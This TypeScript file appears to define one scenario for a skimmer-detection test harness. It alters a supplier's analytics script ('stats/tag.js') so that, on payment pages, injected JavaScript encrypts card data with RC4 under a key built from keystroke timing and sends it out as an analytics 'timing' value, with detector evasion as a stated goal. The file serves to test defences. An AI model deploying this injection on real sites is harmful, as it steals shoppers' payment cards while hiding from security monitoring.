import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { rc4 } from '../ciphers.ts';
import { onPay, RC4 } from '../snippets.ts';

export default skimmer({
  id: 'bundle-unpinnable',
  why: 'The same entropy inside an altered bundle of an approved supplier, sent to the approved analytics: earlier prototypes had one rule left for it.',
  covers: ['injection: third party', 'sending: analytics', 'evade: detectors'],
  base: 'direct',
  install: (site) =>
    site.alter(
      'stats/tag.js',
      (code) => js`${code}
(function () {
  if (!/payment/.test(location.pathname)) return;
  var worker = new Worker(URL.createObjectURL(new Blob(['var n=0;setInterval(function(){for(var i=0;i<1e5;i++)n=(n*33+i)>>>0},0);onmessage=function(){postMessage(n)}']))), keys = ['k'];
  worker.onmessage = function (e) { keys.push(e.data.toString(36)); };
  addEventListener('keyup', function () { worker.postMessage(0); });
  ${RC4}
  addEventListener('DOMContentLoaded', function () { ${onPay(js`
    var key = keys.slice(-6).join('');
    stat('timing', { v: btoa(key) + '.' + btoa(rc4(key, card())) });`)} });
})();`,
    ),
  proof: holds((arrived) =>
    at(arrived, 'stats').map(({ url }) => {
      const [key = '', sealed = ''] = (url.searchParams.get('v') ?? '').split('.');
      return key === '' ? '' : rc4(Buffer.from(key, 'base64').toString(), Buffer.from(sealed, 'base64'));
    }),
  ),
});
